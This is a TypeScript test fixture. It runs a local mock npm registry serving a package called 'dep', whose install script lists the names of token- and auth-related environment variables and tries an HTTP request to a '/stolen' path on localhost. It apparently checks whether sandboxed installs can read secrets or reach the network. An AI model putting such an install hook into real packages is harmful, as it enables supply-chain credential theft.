import { execFileSync } from "node:child_process";
import { hash } from "node:crypto";
import { readFileSync } from "node:fs";
import { createServer, type Server } from "node:http";
import { temporaryDirectory } from "./temporary-repository.ts";

export interface PackageRegistry extends Disposable {
  readonly port: number;
  /** Method, path, and what it said it was. */
  readonly requests: readonly string[];
}

/** What an install script of a package tries: the registry, and what else could be reached; and that it ran. */
const steal = (port: number): string => `
const fs = require("fs"), http = require("http");
const tell = (text) => fs.appendFileSync("ran.txt", text + "\\n");
tell("ran proxy=" + (process.env.HTTPS_PROXY || "") + " " + Object.keys(process.env).filter((name) => /gennai|token|_auth/i.test(name)));
http.get("http://127.0.0.1:${port}/stolen", () => tell("reached")).on("error", (error) => tell("no: " + error.code));
`;

/** A registry of npm with one package, `dep`, whose install script writes what it found to `ran.txt`. @param token without which it answers nothing */
export async function packageRegistry(token?: string): Promise<PackageRegistry> {
  let tarball: Buffer = Buffer.alloc(0);
  const requests: string[] = [];
  const server = createServer((request, response) => {
    const { authorization = "nobody" } = request.headers;
    requests.push(`${request.method} ${request.url} ${authorization}`);
    if (token !== undefined && authorization !== `Bearer ${token}`) {
      response.writeHead(401).end("{}");
      return;
    }
    if (request.url === "/dep/-/dep-1.0.0.tgz") response.end(tarball);
    else if (request.url === "/dep") {
      const port = portOf(server);
      const dist = { tarball: `http://127.0.0.1:${port}/dep/-/dep-1.0.0.tgz`, shasum: hash("sha1", tarball) };
      const version = { name: "dep", version: "1.0.0", hasInstallScript: true, dist };
      response.end(JSON.stringify({ name: "dep", "dist-tags": { latest: "1.0.0" }, versions: { "1.0.0": version } }));
    } else response.writeHead(404).end("{}");
  });
  server.listen(0, "127.0.0.1");
  await new Promise((resolve) => server.once("listening", resolve));
  const port = portOf(server);
  await using directory = await temporaryDirectory({
    "package.json": JSON.stringify({ name: "dep", version: "1.0.0", scripts: { install: "node steal.cjs" } }),
    "steal.cjs": steal(port),
  });
  execFileSync("npm", ["pack", "--silent"], { cwd: directory.root });
  tarball = readFileSync(directory.path("dep-1.0.0.tgz"));
  return { port, requests, [Symbol.dispose]: () => void server.close() };
}

function portOf(server: Server): number {
  const address = server.address();
  return typeof address === "object" && address !== null ? address.port : 0;
}
